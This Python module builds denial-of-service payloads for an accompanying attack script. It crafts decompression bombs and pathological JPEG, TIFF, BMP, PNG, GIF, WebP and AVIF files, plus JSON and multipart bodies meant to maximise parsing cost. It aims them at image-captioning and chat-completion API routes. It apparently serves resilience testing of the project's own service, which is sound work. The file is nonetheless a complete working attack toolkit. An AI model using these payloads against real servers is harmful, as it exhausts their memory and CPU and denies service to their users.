"""Pictures and bodies that cost a server the most for their size, for `attack.py`."""

import io
import struct
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial

from fuzz import chunk
from PIL import Image
from service import PHOTO

MEGABYTE = 1_000_000
UPLOAD, BATCH, TEXT = 19_900_000, 99_000_000, 7_900_000
"""Bytes just below the limits of bodies."""

File = Callable[[], bytes]


def segment(marker: int, body: bytes) -> bytes:
    """A segment of a JPEG."""
    return bytes((255, marker)) + struct.pack(">H", len(body) + 2) + body


def grey_jpeg(frame: int, side: int, dc: bytes, scan: bytes, scans: int) -> bytes:
    """A grey JPEG by its kind of frame, the codes of its DC table, and a scan that is repeated."""
    head = segment(0xDB, b"\0" + b"\1" * 64) + segment(frame, struct.pack(">BHHB", 8, side, side, 1) + b"\1\x11\0")
    return b"\xff\xd8" + head + segment(0xC4, b"\0" + dc) + scan * scans + b"\xff\xd9"


def scans_of_empty_blocks(scans: int, side: int = 7_000) -> bytes:
    """A progressive JPEG whose further scans say in some 75 bytes that all blocks are empty."""
    bits = ("0" + "1" * 14) * 24
    runs = int(bits, 2).to_bytes(45, "big").replace(b"\xff", b"\xff\0")
    first = segment(0xDA, b"\1\1\0\0\0\0") + bytes(side * side // 512) + b"\x7f"
    table = segment(0xC4, b"\x10\1\1" + bytes(14) + b"\xe0\0")
    one = grey_jpeg(0xC2, side, b"\1" + bytes(15) + b"\0", first + table, 1)
    return one[:-2] + (segment(0xDA, b"\1\1\0\1\x3f\0") + runs) * scans + b"\xff\xd9"


def scans_block_by_block(scans: int, side: int = 13_000) -> bytes:
    """A progressive JPEG whose scans tell each block anew, in a bit: few scans, and as many pixels as are decoded."""
    blocks = ((side + 7) // 8) ** 2
    first = segment(0xDA, b"\1\1\0\0\0\0") + bytes(blocks // 8 + 1)
    table = segment(0xC4, b"\x10\1" + bytes(15) + b"\0")
    one = grey_jpeg(0xC2, side, b"\1" + bytes(15) + b"\0", first + table, 1)
    return one[:-2] + (segment(0xDA, b"\1\1\0\1\x3f\0") + bytes(blocks // 8 + 1)) * scans + b"\xff\xd9"


def gigapixels(side: int = 62_000) -> bytes:
    """A JPEG of one grey, in two bits a block: it is decoded at an eighth of its size."""
    table = segment(0xC4, b"\x10\1" + bytes(15) + b"\0")
    scan = table + segment(0xDA, b"\1\1\0\0\x3f\0") + bytes((side // 8) ** 2 // 4 + 1)
    return grey_jpeg(0xC0, side, b"\1" + bytes(15) + b"\0", scan, 1)


def tiff(entries: list[tuple[int, int, int, int]], values: bytes = b"") -> bytes:
    """A TIFF whose directory has these entries, with values from byte 8 on."""
    directory = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries) + bytes(4)
    return b"II*\0" + struct.pack("<I", 8 + len(values)) + values + directory


_GREY = [(258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (277, 3, 1, 1), (278, 4, 1, 1)]


def strips(number: int) -> bytes:
    """A TIFF of 64 x 64 grey levels in so many strips, whose places are single bytes."""
    size = [(256, 4, 1, 64), (257, 4, 1, 64), *_GREY]
    return tiff(sorted([*size, (273, 1, number, 4104), (279, 4, 1, 64)]), bytes(4096) + b"\x08" * number)


def strips_as_allowed(width: int = 2_100, height: int = 30_000) -> bytes:
    """A TIFF with a strip a row, as many as pictures may have."""
    row = bytes(width)
    values = row + struct.pack("<I", 8) * height + struct.pack("<I", width) * height
    tables = [(273, 4, height, 8 + width), (279, 4, height, 8 + width + 4 * height)]
    return tiff(sorted([(256, 4, 1, width), (257, 4, 1, height), *_GREY, *tables]), values)


def shared_values(number: int) -> bytes:
    """A TIFF whose tags all have the same megabyte."""
    return tiff([(256, 4, 1, 1), (257, 4, 1, 1), *((700 + tag, 7, MEGABYTE, 8) for tag in range(number))], bytes(10**6))


def run_lengths(width: int, height: int) -> bytes:
    """A BMP in run-length encoding whose rows are nearly empty."""
    rows = b"\1\5\0\0" * height + b"\0\1"
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(rows), 0, 0, 256, 0)
    palette = b"".join(bytes((level, level, level, 0)) for level in range(256))
    return b"BM" + struct.pack("<IHHI", 1078 + len(rows), 0, 0, 1078) + header + palette + rows


def encoded(format: str, mode: str, size: tuple[int, int], **options: object) -> bytes:
    """The photograph in this format, mode and size, with hard edges where it is enlarged."""
    with Image.open(PHOTO) as photo:
        picture = photo.convert("L" if mode in ("I;16", "F", "LA") else "RGB").resize(size, Image.Resampling.NEAREST)
    file = io.BytesIO()
    picture.convert(mode).save(file, format, **options)
    return file.getvalue()


def filled(format: str, at: int, filling: bytes, size: int = UPLOAD) -> bytes:
    """A small picture's file with something repeated at a place in it, up to a size."""
    data = encoded(format, "RGB", (160, 120))
    return data[:at] + filling * ((size - len(data)) // len(filling)) + data[at:]


def gif_blocks(filling: bytes, end: bytes = b"") -> bytes:
    """A GIF of some 20 MB with something repeated before its frame."""
    data = encoded("GIF", "P", (160, 120))
    at = 13 + (3 << (data[10] & 7) + 1)
    return data[:at] + filling * ((UPLOAD - len(data)) // len(filling)) + end + data[at:]


def webp_chunks() -> bytes:
    """A WebP of many chunks that nobody knows."""
    data = encoded("WEBP", "RGBA", (160, 120), exif=b"Exif\0\0II*\0\x08\0\0\0\0\0")
    data += b"abcd\0\0\0\0" * ((UPLOAD - len(data)) // 8)
    return data[:4] + struct.pack("<I", len(data) - 8) + data[8:]


PICTURES: Mapping[str, File] = {
    "comments before an SVG": lambda: b"<!---->" * 40,
    "many comments before an SVG": lambda: b"<!---->" * 500,
    "blanks before an SVG": lambda: b" " * 4_000,
    "declarations before an SVG": lambda: b"<?xml?><!DOCTYPE svg>" * 190,
    "scans of a JPEG": partial(scans_of_empty_blocks, 11_000),
    "scans of a JPEG, 20 MB": partial(scans_of_empty_blocks, 250_000),
    "scans of a JPEG, as allowed": partial(scans_of_empty_blocks, 99),
    "scans of a JPEG, block by block": partial(scans_block_by_block, 55),
    "EXIF segments of a JPEG": partial(filled, "JPEG", 2, b"\xff\xe1\0\x09Exif\0\0\0"),
    "EXIF segments of a JPEG, as allowed": partial(
        filled, "JPEG", 2, segment(0xE1, b"Exif\0\0" + bytes(9_900)), 9_900_000
    ),
    "empty segments of a JPEG": partial(filled, "JPEG", 2, b"\xff\xe5\0\2"),
    "fill bytes of a JPEG": partial(filled, "JPEG", 2, b"\xff"),
    "junk in a JPEG": partial(filled, "JPEG", 20, b"\x11"),
    "JPEG of 4 gigapixels": gigapixels,
    "strips of a TIFF": partial(strips, 6_000_000),
    "strips of a TIFF, 20 MB": partial(strips, 19_800_000),
    "strips of a TIFF, as allowed": strips_as_allowed,
    "values of a TIFF": partial(shared_values, 4_000),
    "entries of a TIFF": lambda: tiff([(256, 4, 1, 1)] * 65_000),
    "runs of a BMP": partial(run_lengths, 30_000, 1_666),
    "runs of a BMP, as allowed": partial(run_lengths, 2_000, 2_000),
    "chunks of a PNG": partial(filled, "PNG", 33, chunk(b"teXt", b"")),
    "data chunks of a PNG": partial(filled, "PNG", 33, chunk(b"IDAT", b"")),
    "a text of a PNG that unpacks to 5 GB": lambda: filled(
        "PNG", 33, chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(20 * MEGABYTE)))
    ),
    "a profile of a PNG that unpacks to 1 GB": lambda: filled(
        "PNG", 33, chunk(b"iCCP", b"k\0\0" + zlib.compress(bytes(1_000 * MEGABYTE), 1)), 0
    ),
    "comments of a GIF": partial(gif_blocks, b"!\xfe\1a\0"),
    "control blocks of a GIF": partial(gif_blocks, b"!\xf9\4\0\0\0\0\0"),
    "bytes between blocks of a GIF": partial(gif_blocks, b"a"),
    "chunks of a WebP": webp_chunks,
    "boxes of an AVIF": partial(filled, "AVIF", 32, b"\0\0\0\x08free"),
}
"""Files with more parts than pictures have, or with as many as are allowed."""

HONEST: Mapping[str, File] = {
    "JPEG of 50 megapixels": partial(encoded, "JPEG", "RGB", (8_160, 6_144)),
    "JPEG of 200 megapixels": partial(encoded, "JPEG", "RGB", (16_320, 12_240)),
    "JPEG, progressive": partial(encoded, "JPEG", "RGB", (10_000, 11_000), progressive=True),
    "JPEG, CMYK": partial(encoded, "JPEG", "CMYK", (8_000, 8_000)),
    **{
        f"PNG, {mode}": partial(encoded, "PNG", mode, (8_000, 8_000))
        for mode in ("RGB", "RGBA", "LA", "P", "I;16", "1")
    },
    "PNG, a row of pixels": partial(encoded, "PNG", "RGB", (30_000, 2)),
    "GIF": partial(encoded, "GIF", "P", (8_000, 8_000)),
    "BMP, 24 bits": partial(encoded, "BMP", "RGB", (2_570, 2_570)),
    "BMP, 1 bit": partial(encoded, "BMP", "1", (8_000, 8_000)),
    **{
        f"TIFF, {mode}": partial(encoded, "TIFF", mode, (8_000, 8_000), compression="tiff_adobe_deflate")
        for mode in ("RGB", "RGBA", "CMYK", "I;16", "F")
    },
    "TIFF, LZW": partial(encoded, "TIFF", "RGB", (7_900, 7_900), compression="tiff_lzw"),
    "WebP": partial(encoded, "WEBP", "RGB", (4_890, 4_890), method=0),
    "WebP, transparent": partial(encoded, "WEBP", "RGBA", (4_890, 4_890), method=0),
    "WebP, lossless": partial(encoded, "WEBP", "RGB", (4_890, 4_890), lossless=True, method=0, quality=0),
    "AVIF": partial(encoded, "AVIF", "RGB", (4_890, 4_890), speed=10),
    "AVIF, transparent": partial(encoded, "AVIF", "RGBA", (4_890, 4_890), speed=10),
}
"""Pictures of every format as large as they are read."""


@dataclass(frozen=True)
class Route:
    """A path that takes JSON."""

    path: str
    size: int
    """Most bytes of a body, or a little less."""
    field: str
    """Name of the value that it needs."""
    text: str = ""
    """JSON whose asterisk stands for text that a client is free to choose."""
    forms: bool = False


ROUTES = {
    "captions": Route("/v1/captions", UPLOAD, "image", '{"image":"*"}', forms=True),
    "stream": Route("/v1/captions/stream", UPLOAD, "image", '{"image":"*"}', forms=True),
    "batch": Route("/v1/captions/batch", BATCH, "image", '{"image":["*"]}', forms=True),
    "predict": Route("/model/predict", UPLOAD, "image", '{"image":"*"}', forms=True),
    "chat": Route(
        "/v1/chat/completions",
        UPLOAD,
        "messages",
        '{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"*"}}]}]}',
    ),
    "completions": Route("/v1/completions", TEXT, "prompt", '{"prompt":"*"}'),
    "captioner": Route("/models/flickr8k-coco", UPLOAD, "inputs", '{"inputs":"*"}'),
    "text": Route("/models/shakespeare", UPLOAD, "inputs", '{"inputs":"*"}'),
}


def _around(head: str, unit: str, tail: str, size: int) -> File:
    """A body of this size that repeats something."""
    return lambda: (head + unit * ((size - len(head) - len(tail)) // len(unit)) + tail).encode()


def _multipart(head: str, unit: str, tail: str, size: int) -> File:
    return _around(head.replace("\n", "\r\n"), unit.replace("\n", "\r\n"), tail.replace("\n", "\r\n"), size)


FORM = "multipart/form-data; boundary=B"


def bodies(route: Route) -> dict[str, tuple[File, str]]:
    """Bodies that are small to write and large to read: name -> the body, and its content type."""
    size, field = route.size, route.field
    plain = {
        "long name": _around('{"', "ab", '":1}', size),
        "names": lambda: b"{%b}" % b",".join(b'"%07x":1' % number for number in range(size // 12)),
        "lists": _around(f'{{"{field}":[', "[],", '"a"]}', size),
        "objects": _around(f'{{"{field}":[', "{},", "{}]}", size),
        "numbers": _around(f'{{"{field}":[', "1.5,", "1.5]}", size),
        "words": _around(f'{{"{field}":[', '"a",', '"a"]}', size),
        "depth": _around(f'{{"{field}":', "[", "", size),
        "digits": _around('{"seed":', "1", "}", size),
        "escapes": _around(f'{{"{field}":"', "\\u0041", '"}', size),
        "stops": _around('{"stop":[', "[],", '"a"]}', size),
        "model": _around('{"model":"', "ab", '"}', size),
    }
    if "inputs" in field:
        plain["parameters"] = _around('{"inputs":"a","parameters":{"', "ab", '":1}}', size)
        plain["stops"] = _around('{"inputs":"a","parameters":{"stop":[', "[],", '"a"]}}', size)
    if field == "messages":
        plain["parts"] = _around('{"messages":[{"role":"user","content":[', "{},", "{}]}]}", size)
    head, tail = route.text.split("*")
    plain["percent"] = _around(f"{head}data:;base64,", "%", tail, size)
    plain["blanks"] = _around(head, " ", tail, size)
    plain["base64"] = _around(head, "AAAA", tail, size)
    found = {name: (file, "application/json") for name, file in plain.items()}
    if route.forms:
        found["form"] = _around("image=x", "&b", "", size), "application/x-www-form-urlencoded"
        found["form of percents"] = _around("image=", "%41", "", size), "application/x-www-form-urlencoded"
        part = '--B\nContent-Disposition: form-data; name="prefix"\n\n\n'
        found["parts"] = _multipart("", part, "--B--\n", size), FORM
        found["boundaries"] = _multipart(part, "--B\n", "--B--\n", size), FORM
        found["part's head"] = _multipart("--B\n", "a: b\n", "\n\n--B--\n", size), FORM
        text = '--B\nContent-Disposition: form-data; name="image"\n\n'
        found["punycode"] = _multipart(text, "ab-", "\n--B--\n", min(size, MEGABYTE)), f"{FORM}; charset=punycode"
    return found


def batch_of(picture: File, number: int = 32) -> bytes:
    """A form with a picture so many times over."""
    head = b'--B\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\n'
    return (head + picture() + b"\r\n") * number + b"--B--\r\n"
